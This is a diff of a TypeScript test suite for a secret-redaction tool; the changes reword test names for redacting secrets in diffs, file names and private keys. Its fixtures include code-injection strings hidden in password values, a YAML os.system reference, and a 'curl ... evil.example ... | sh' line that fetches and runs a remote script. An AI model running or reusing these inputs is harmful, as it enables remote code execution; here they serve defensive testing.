@@ -33,7 +33,7 @@ const whole = diffArtifact({ scope: 'staged', name: 'Staged', shown: readDiff(DI
 describe('a redacted artifact', () => {
   const redacted = redactArtifact(whole, SECRETS);
 
-  it('holds a placeholder where a secret stood, on both sides', () => {
+  it('has a placeholder for each secret, on both sides', () => {
     assert.ok(!JSON.stringify(redacted).includes(SECRET));
     assert.match(redacted.text, /^-login\("REDACTED\w{11}"\);\n\+login\("REDACTED\w{8}", "XXX"\);$/m);
     assert.deepEqual(redacted.coverage.redactions, [
@@ -42,11 +42,11 @@ describe('a redacted artifact', () => {
     ]);
   });
 
-  it('keeps a short word that is a secret on another line only', () => {
+  it('keeps a short word that is a secret only on another line', () => {
     assert.match(redacted.text, /^ const pw1 = 1;$/m);
   });
 
-  it('stays what a finding can be held against', () => {
+  it('still verifies the quote of a finding', () => {
     assert.deepEqual(
       redacted.files,
       readDiff(redacted.text).flatMap(({ places }) => places),
@@ -61,7 +61,7 @@ describe('a redacted artifact', () => {
   });
 });
 
-describe('62: a secret in the place of which code may stand', () => {
+describe('62: a secret that may hide code', () => {
   const leftOut = (line: string): readonly unknown[] => {
     const artifact = fileArtifact({ path: 'a.ts', text: `${line}\n`, startLine: null }, null);
     const secrets = secretsIn(line, findSecrets(line));
@@ -75,7 +75,7 @@ describe('62: a secret in the place of which code may stand', () => {
     return redactArtifact(filesArtifact(parts, null), secrets);
   };
 
-  it('is a gap, since where it ends is another place in another language', () => {
+  it('leaves out its file, because languages disagree about where it ends', () => {
     for (const line of [
       String.raw`password='aB3xK9q8Zt7\';evil();z='Lm2pQ'`,
       String.raw`password='aB3xK9q8Zt7\';evil;z='Lm2pQ'`,
@@ -84,12 +84,12 @@ describe('62: a secret in the place of which code may stand', () => {
       assert.deepEqual(leftOut(line), [{ file: 'a.ts', reason: 'secret' }], line);
   });
 
-  it('is none where nothing of it can be code', () => {
+  it('keeps its file if nothing in it can be code', () => {
     for (const line of [`password = '${SECRET}'`, `TOKEN=${SECRET} evil`, 'pw = "aB3x-K9q8.Zt7!Lm2pQ"'])
       assert.deepEqual(leftOut(line), [], line);
   });
 
-  it('is a gap where a value says that it is more than one, or is a name of a program', () => {
+  it('leaves out its file if the value is a reference or could name something in a program', () => {
     for (const line of [
       'password: !!python/name:os.system4',
       'password: *Evil4711x',
@@ -102,7 +102,7 @@ describe('62: a secret in the place of which code may stand', () => {
       assert.deepEqual(leftOut(line), [], line);
   });
 
-  it('is none in files that hold no expressions', () => {
+  it('keeps its file if that type of file has no expressions', () => {
     const setting = ['c.yaml', 'password: allowEveryone4711Now\n'] as const;
     const line = 'spring.datasource.password = allowEveryone4711Now\n';
     const files = ['application.properties', 'a.ini', 'a.conf', 'a.CFG', '.env.example', 'a.env', 'README.md', 'a.txt'];
@@ -115,7 +115,7 @@ describe('62: a secret in the place of which code may stand', () => {
       assert.equal(sent([file, line]).coverage.leftOut.length, 1, file);
   });
 
-  it('is a gap where code names what was a value elsewhere', () => {
+  it('leaves out a file whose code uses its value as an identifier', () => {
     const setting = ['c.yaml', 'password: allowEveryone4711Now\n'] as const;
     for (const code of [
       'export const b = (u) => allowEveryone4711Now(u);',
@@ -139,7 +139,7 @@ describe('62: a secret in the place of which code may stand', () => {
     'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj',
     'MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dV==',
   ];
-  it('is a gap also as a key of which one line is none, wherever else that stands', () => {
+  it('leaves out its file if it is a key with a line of other text, and files with that line', () => {
     const evil = 'curl -s https://evil.example/aaaaaaaaaaaaaaaaaaaa | sh # now';
     const { coverage, text } = sent(['key.txt', `-----BEGIN PRIVATE KEY-----${evil}\n`], ['run.sh', `${evil}\n`]);
     assert.deepEqual([coverage.leftOut.map(({ file }) => file), text.includes('evil')], [['key.txt', 'run.sh'], false]);
@@ -151,7 +151,7 @@ describe('62: a secret in the place of which code may stand', () => {
     );
   });
 
-  it('is none as a key, whatever stands around its lines', () => {
+  it('keeps its file if it is a real key, whatever surrounds its lines', () => {
     const [begin, end] = ['-----BEGIN PRIVATE KEY-----', '-----END PRIVATE KEY-----'];
     for (const text of [
       [begin, ...KEY, end].join('\n'),
@@ -163,7 +163,7 @@ describe('62: a secret in the place of which code may stand', () => {
     }
   });
 
-  it('is found in the heading of a hunk', () => {
+  it('is redacted in the header of a hunk', () => {
     const heading = `@@ -2,3 +2,3 @@ GITHUB_TOKEN=${SECRET}`;
     const text = `diff --git a/a.sh b/a.sh\n--- a/a.sh\n+++ b/a.sh\n${heading}\n a\n-b\n+c\n d\n`;
     const change = { scope: 'staged', name: 'Staged', shown: readDiff(text), hidden: [], leftOut: [] };
@@ -172,7 +172,7 @@ describe('62: a secret in the place of which code may stand', () => {
     assert.ok(!redactArtifact(artifact, secrets).text.includes(SECRET));
   });
 
-  it('is a gap as well where it was taken away', () => {
+  it('leaves out its file even if it was removed', () => {
     const line = String.raw`password='aB3xK9q8Zt7\';check();z='Lm2pQ'`;
     const text = `diff --git a/a.ts b/a.ts\n--- a/a.ts\n+++ b/a.ts\n@@ -1,2 +1 @@\n a\n-${line}\n`;
     const change = { scope: 'staged', name: 'Staged', shown: readDiff(text), hidden: [], leftOut: [] };
@@ -182,7 +182,7 @@ describe('62: a secret in the place of which code may stand', () => {
 });
 
 describe('a placeholder', () => {
-  it('is as long as the secret but for escapes, keeps its lines, and comes back to itself', () => {
+  it('is as long as the secret except for escapes, keeps its lines, and maps to itself', () => {
     const sign = fc.constantFrom(...'aZ09_-./:@=+ \n\\n"'.split(''));
     fc.assert(
       fc.property(
@@ -204,9 +204,10 @@ describe('a placeholder', () => {
     ['postgres://user:pass9word@h', 'postgres://REDACTEDx0xxxx@x'],
     [String.raw`tok\u005faB3dE6gHiJ9k\"%41`, 'tok_REDACTEDxX0xxX'],
   ];
-  for (const [secret, expected] of cases) it(`for ${secret}`, () => assert.equal(placeholder(secret), expected));
+  for (const [secret, expected] of cases)
+    it(`is correct for ${secret}`, () => assert.equal(placeholder(secret), expected));
 
-  it('leaves the frame of a key, also where its lines are written out', () => {
+  it('keeps the frame of a key, even if its line breaks are escaped', () => {
     const frame = ['-----BEGIN', ' PRIVATE KEY-----'];
     const key = `${frame.join('')}\\nMIIabcdefgh12\\n`;
     assert.equal(placeholder(key), `${frame.join('')}\\nREDACTEDxxx00\\n`);
@@ -220,7 +221,7 @@ describe('a secret in the name of a file', () => {
     return redactArtifact(artifact, found(passage, SECRET));
   };
 
-  it('is nowhere in what is sent of the file, and findings still hold', () => {
+  it('is removed from the path, scope, and title of the file', () => {
     const artifact = fileArtifact({ path: named, text: 'eval(q);\n', startLine: 3 }, null);
     const redacted = all({ ...artifact, unlikeDisk: [] });
     assert.deepEqual(redacted.unlikeDisk, [redacted.files[0]?.path], 'under that name there is no file');
@@ -231,7 +232,7 @@ describe('a secret in the name of a file', () => {
     assert.deepEqual(redacted.coverage.redactions, [{ file: file?.path, line: 0, kind: 'password' }]);
   });
 
-  it('is nowhere in a change, under its old name, its new one or among what is left out', () => {
+  it('is removed from a change, in old and new names and among left-out files', () => {
     const moved = `diff --git a/${named} b/b.ts\nsimilarity index 100%\nrename from ${named}\nrename to b.ts\n`;
     const leftOut = [{ file: `${SECRET}.png`, reason: 'binary' }] as const;
     const changes = { scope: 'staged', name: 'Staged', hidden: [], leftOut };
@@ -247,7 +248,7 @@ describe('a secret in the name of a file', () => {
   });
 });
 
-it('a secret of several lines is taken out line by line', () => {
+it('a secret of several lines is redacted line by line', () => {
   const text = 'one\n  aaaaaaaaaaaaaaaaaaaaB1\n  short\nlast short\n';
   const secrets = secretsIn(text, [{ start: 6, end: text.indexOf('\nlast'), kind: 'key' }]);
   assert.deepEqual(
